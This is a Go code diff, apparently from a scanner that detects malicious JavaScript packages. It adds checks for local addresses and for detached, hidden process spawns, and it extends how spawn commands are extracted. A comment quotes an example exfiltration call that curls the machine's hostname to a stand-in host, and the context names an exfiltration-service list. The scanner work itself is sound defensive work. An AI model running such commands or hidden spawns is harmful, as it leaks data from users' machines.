@@ -76,6 +76,29 @@ func PublicIP(host string) bool {
 	return !(ip.IsLoopback() || ip.IsPrivate() || ip.IsUnspecified() || ip.IsLinkLocalUnicast() || ip.IsMulticast())
 }
 
+// LocalHost reports a host that is this machine or its private network:
+// localhost, loopback, private and link-local addresses.
+func LocalHost(host string) bool {
+	h := strings.ToLower(strings.Trim(host, "[]"))
+	if h == "localhost" || strings.HasSuffix(h, ".localhost") || h == "0.0.0.0" {
+		return true
+	}
+	ip := net.ParseIP(h)
+	return ip != nil && (ip.IsLoopback() || ip.IsPrivate() || ip.IsUnspecified() || ip.IsLinkLocalUnicast())
+}
+
+// Hidden reports a spawn started detached with its output discarded or its
+// window hidden: a process meant to outlive the caller unseen.
+func Hidden(c jsast.Call) bool {
+	for _, a := range c.Args[min(1, len(c.Args)):] {
+		joined := strings.Join(a.Names, ",")
+		if strings.Contains(joined, "detached") && (strings.Contains(joined, "stdio") || strings.Contains(joined, "windowsHide")) {
+			return true
+		}
+	}
+	return false
+}
+
 var discardPrefix = func() *net.IPNet { _, n, _ := net.ParseCIDR("100::/64"); return n }()
 
 // exfilSuffixes are services commonly used to receive stolen data.
@@ -200,11 +223,15 @@ func IsSpawn(c jsast.Call) bool {
 	return false
 }
 
-// SpawnCommand returns the command text of a spawn call (first known
-// argument, plus a known args array rendered by the parser if any).
+// SpawnCommand returns the command text of a spawn call: its first
+// argument folded, or its shape with the run-time parts as jsast.Hole
+// (exec(`curl -d "${os.hostname()}" https://x.example`)).
 func SpawnCommand(c jsast.Call) string {
-	if len(c.Args) > 0 && c.Args[0].Known {
-		return c.Args[0].Value
+	if len(c.Args) > 0 {
+		if c.Args[0].Known {
+			return c.Args[0].Value
+		}
+		return c.Args[0].Shape
 	}
 	return ""
 }
